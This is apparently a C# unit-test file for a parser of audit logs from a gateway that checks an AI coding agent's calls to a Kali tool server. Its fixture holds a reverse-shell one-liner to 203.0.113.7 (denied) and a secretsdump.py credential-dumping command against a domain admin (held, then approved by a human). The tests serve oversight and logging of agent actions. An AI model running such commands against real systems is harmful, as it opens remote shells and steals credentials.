using Parry.Ingest.Traces.Formats;
using static Parry.Ingest.Tests.Traces.TraceTestSupport;

namespace Parry.Ingest.Tests.Traces;

/// <summary>Audit lines in the shape Parry.Gateway.Audit.AuditLog writes them.</summary>
public class GatewayAuditFormatTests
{
    private static readonly GatewayAuditFormat Format = new();

    private const string Audit = """
        {"time":"2025-09-01T12:00:00+00:00","type":"decision","call_id":"s1:1","session":"s1","transport":"stdio","client":{"name":"claude-code","version":"1.0"},"server":"kali","tool":"run","request_id":"4","arguments":{"command":"nmap -sV 10.0.0.5","token":"[REDACTED]"},"decision":"allow","rule":"default","reason":"in scope","findings":[],"latency_us":41.2}
        {"time":"2025-09-01T12:00:01+00:00","type":"decision","call_id":"s1:2","session":"s1","transport":"stdio","client":{"name":"claude-code"},"server":"kali","tool":"run","request_id":"5","arguments":{"command":"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},"decision":"deny","rule":"out_of_scope","reason":"203.0.113.7 is not in scope","findings":[{"kind":"target","source":"builtin","summary":"x"}],"latency_us":35}
        {"time":"2025-09-01T12:00:02+00:00","type":"decision","call_id":"s1:3","session":"s1","transport":"stdio","client":{"name":"claude-code"},"server":"kali","tool":"run","request_id":"6","arguments":{"command":"secretsdump.py corp/admin@10.0.0.1"},"decision":"hold","rule":"decision_point","reason":"credential access","findings":[],"latency_us":50}
        {"time":"2025-09-01T12:00:03+00:00","type":"result","call_id":"s1:1","session":"s1","transport":"stdio","client":{"name":"claude-code"},"server":"kali","tool":"run","request_id":"4","status":"ok","is_error":false,"summary":"22/tcp open","duration_ms":2900.5}
        {"time":"2025-09-01T12:00:40+00:00","type":"decision","call_id":"s1:3","session":"s1","transport":"stdio","client":{"name":"claude-code"},"server":"kali","tool":"run","request_id":"6","arguments":{"command":"secretsdump.py corp/admin@10.0.0.1"},"decision":"allow","rule":"decision_point","reason":"credential access","findings":[],"latency_us":50,"approval":{"by":"alice","held_ms":38000}}
        {"time":"2025-09-01T12:00:41+00:00","type":"result","call_id":"s1:3","session":"s1","transport":"stdio","client":{"name":"claude-code"},"server":"kali","tool":"run","request_id":"6","status":"timeout","is_error":true,"error":"no response in 30s","duration_ms":30000}
        {"time":"2025-09-01T12:00:42+00:00","type":"decision","session":"s1","transport":"stdio","client":{"name":"claude-code"},"server":"kali","request_id":"9","decision":"deny","rule":"malformed_call","reason":"params.name missing"}
        """;

    [Fact]
    public void Decisions_and_results_become_calls()
    {
        var (events, errors) = ReadText(Format, Audit, "audit.jsonl");
        errors.ShouldBeEmpty();
        events.Select(e => String(e, "request_id")).ShouldBe(["5", "4", "6", "9"]);

        var denied = events[0];
        String(denied, "decision.action").ShouldBe("deny");
        String(denied, "decision.rule").ShouldBe("out_of_scope");
        Strings(denied, "command.categories").ShouldBe(["reverse-shell"]);
        denied.Origin.Record.ShouldBe(2);

        var nmap = events[1];
        String(nmap, "decision.action").ShouldBe("allow");
        String(nmap, "result.text").ShouldBe("22/tcp open");
        String(nmap, "client.version").ShouldBe("1.0");
        nmap.Timestamp.ShouldBe(DateTimeOffset.Parse("2025-09-01T12:00:00Z"));
        nmap.PrimaryActor!.Value.Value.ShouldBe("s1");
        String(nmap, "duration_ms").ShouldBe("3000");

        var held = events[2];
        held.Origin.Record.ShouldBe(3);
        String(held, "decision.action").ShouldBe("allow");
        String(held, "decision.reason").ShouldBe("credential access (approved or denied by alice)");
        String(held, "result.text").ShouldBe("timeout: no response in 30s");
        Strings(held, "command.categories").ShouldBe(["credential-access"]);

        String(events[3], "tool").ShouldBe("unknown");
        String(events[3], "decision.rule").ShouldBe("malformed_call");
    }

    [Fact]
    public void Calls_still_open_at_the_end_are_emitted()
    {
        var (events, _) = ReadText(Format, Audit.Split('\n')[0]);
        String(events.ShouldHaveSingleItem(), "decision.action").ShouldBe("allow");
    }

    [Fact]
    public void Malformed_lines_are_reported_and_skipped()
    {
        var text = "{\"type\":\"result\",\"session\":\"s\"}\n{broken\n[1]\n{\"type\":\"other\"}\n" + Audit.Split('\n')[0];
        var (events, errors) = ReadText(Format, text);
        events.Count.ShouldBe(1);
        errors.Select(e => e.Record).ShouldBe([1L, 2L, 3L, 4L]);
    }

    [Fact]
    public void Probe()
    {
        TraceTestSupport.Probe(Format, Audit).ShouldBe(95);
        TraceTestSupport.Probe(Format, """{"decision":"x"}""").ShouldBe(0);
    }
}
